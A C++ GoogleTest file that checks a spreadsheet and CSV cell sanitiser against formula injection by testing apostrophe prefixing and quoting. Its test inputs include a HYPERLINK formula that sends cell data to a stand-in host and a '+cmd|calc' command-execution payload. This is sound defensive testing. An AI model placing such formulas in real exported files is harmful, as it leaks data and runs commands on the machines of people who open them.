#include "pipeline/core/spreadsheet_cell.h"

#include <gtest/gtest.h>

namespace sohoa {
namespace {

TEST(SpreadsheetCellTest, EveryFormulaStartGetsAnApostrophe) {
  for (const std::string start : {"=", "+", "-", "@", "\t", "\r"}) {
    const std::string value = start + "HYPERLINK(\"http://x.example/?a=\"&A1)";
    EXPECT_EQ(SpreadsheetCell(value), "'" + value) << start;
  }
}

TEST(SpreadsheetCellTest, OtherTextIsUnchanged) {
  for (const std::string value : {"", "KS-2021-001", "Nguyễn Văn A", "'quoted", " =not first", "12"}) {
    EXPECT_EQ(SpreadsheetCell(value), value);
  }
}

TEST(SpreadsheetCellTest, CsvCellNeutralisesThenQuotes) {
  EXPECT_EQ(CsvCell("KS-1"), "KS-1");
  EXPECT_EQ(CsvCell("+cmd|calc"), "'+cmd|calc");
  EXPECT_EQ(CsvCell("=HYPERLINK(\"http://x.example/?a=\"&A1)"),
            "\"'=HYPERLINK(\"\"http://x.example/?a=\"\"&A1)\"");
  EXPECT_EQ(CsvCell("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvCell("\r1"), "\"'\r1\"");
  EXPECT_EQ(CsvCell("line\nbreak"), "\"line\nbreak\"");
}

}  // namespace
}  // namespace sohoa
